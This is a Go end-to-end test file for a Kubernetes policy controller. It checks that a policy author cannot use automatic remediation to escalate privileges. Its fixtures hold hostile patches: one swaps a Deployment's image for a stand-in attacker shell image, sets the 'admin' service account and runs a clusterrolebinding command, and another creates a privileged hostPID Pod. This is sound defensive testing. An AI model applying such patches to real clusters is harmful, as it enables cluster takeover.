// SPDX-License-Identifier: Apache-2.0

package attack_test

import (
	"context"
	"fmt"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	appsv1 "k8s.io/api/apps/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"evenkeel.dev/evenkeel/api/v1alpha1"
	"evenkeel.dev/evenkeel/test/fixture"
)

// takeOver is a rule whose fix makes a Deployment run the author's own program
// under another identity.
const takeOver = `package fixture.take_over

import rego.v1

wrong if input.pod.spec.serviceAccountName != "admin"

wrong if not input.pod.spec.serviceAccountName

deny contains "must run as admin" if wrong

remediation contains {"action": "patch", "ops": [
	{"op": "add", "path": "/spec/template/spec/serviceAccountName", "value": "admin"},
	{"op": "replace", "path": "/spec/template/spec/containers/0/image", "value": "evil.example.com/shell:1"},
	{"op": "add", "path": "/spec/template/spec/containers/0/command",
		"value": ["sh", "-c", "kubectl create clusterrolebinding mine"]},
]} if wrong
`

var _ = Describe("A user who may write policies and nothing else", func() {
	var (
		namespace string
		author    client.Client
	)
	BeforeEach(func(ctx context.Context) {
		namespace = suite.Namespace(ctx, "author")
		author = userWhoMay(ctx, "author-of-"+namespace, "clusterregopolicies")
	})
	write := func(ctx context.Context, p *v1alpha1.ClusterRegoPolicy) {
		GinkgoHelper()
		suite.CleanUp(p.Name)
		if strategy := fixture.StrategyOf(p); strategy != nil { // an administrator's
			suite.Create(ctx, strategy)
		}
		Eventually(ctx, func() error { return author.Create(ctx, p.DeepCopy()) }).Should(Succeed())
	}

	It("can't have anything written in kube-system", func(ctx context.Context) {
		attempt("write a policy whose Automatic fix sets service account, image and command of a Deployment in " +
			"kube-system")
		victim := fixture.Deployment("kube-system", namespace)
		suite.Create(ctx, victim)
		DeferCleanup(func(ctx context.Context) { Expect(suite.API.Delete(ctx, victim)).To(Succeed()) })

		write(ctx, fixture.Policy(namespace, "kube-system", takeOver, fixture.Kinds("apps", "Deployment"),
			fixture.Remediated(v1alpha1.RemediationAutomatic)))
		suite.AwaitEvent(ctx, "RemediationNotPlanned", namespace, ContainSubstring("1 NotAllowed"))
		Expect(suite.Plans(ctx, namespace)).To(BeEmpty())
		unchanged(ctx, victim)
	})

	It("can't set who a Pod is and what it runs", func(ctx context.Context) {
		attempt("write a policy whose Automatic fix sets service account, image and command of a Deployment")
		victim := fixture.Deployment(namespace, "web")
		suite.Create(ctx, victim)
		Eventually(ctx, func(g Gomega) {
			g.Expect(suite.Get(ctx, victim)).To(Succeed())
			g.Expect(victim.Status.AvailableReplicas).To(BeEquivalentTo(1))
		}).Should(Succeed())
		write(ctx, fixture.Policy(namespace, namespace, takeOver, fixture.Kinds("apps", "Deployment"),
			fixture.Remediated(v1alpha1.RemediationAutomatic)))
		refused(ctx, namespace, "web", "--remediation-allow-fields")
		unchanged(ctx, victim)
	})

	It("can't have a privileged Pod made", func(ctx context.Context) {
		attempt("write a policy whose Automatic fix creates a privileged Pod beside a ConfigMap")
		suite.Create(ctx, fixture.ConfigMap(namespace, "web"))
		pod := fmt.Sprintf(`{"action": "create", "object": {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": %q},
			"spec": {"hostPID": true, "containers": [{"name": "x", "image": "evil.example.com/shell:1", "securityContext": {"privileged": true}}]}}}`, namespace)
		write(ctx, fixture.Policy(namespace, namespace, fixture.Acts(`input.object.data.state == "bad"`, pod,
			`{"action": "patch", "ops": [{"op": "replace", "path": "/data/state", "value": "good"}]}`),
			fixture.Remediated(v1alpha1.RemediationAutomatic,
				fixture.Allowing(v1alpha1.ActionPatch, v1alpha1.ActionCreate))))
		refused(ctx, namespace, "web", "--remediation-allow-fields")
	})
})

// refused waits until the plan of a policy has recorded that a target's fix isn't
// allowed.
func refused(ctx context.Context, policy, target, why string) {
	GinkgoHelper()
	Eventually(ctx, func(g Gomega) {
		plans := suite.Plans(ctx, policy)
		g.Expect(plans).NotTo(BeEmpty())
		rec := suite.RecordOf(ctx, &plans[0], target)
		g.Expect(rec.State).To(Equal(v1alpha1.TargetFailed), rec.Message)
		g.Expect(rec.Reason).To(Equal(v1alpha1.ReasonNotAllowed))
		g.Expect(rec.Message).To(ContainSubstring(why))
	}).Should(Succeed())
}

// unchanged says that nobody has written a Deployment's spec.
func unchanged(ctx context.Context, victim *appsv1.Deployment) {
	GinkgoHelper()
	now := victim.DeepCopy()
	Expect(suite.Get(ctx, now)).To(Succeed())
	Expect(now.Spec).To(Equal(victim.Spec))
}
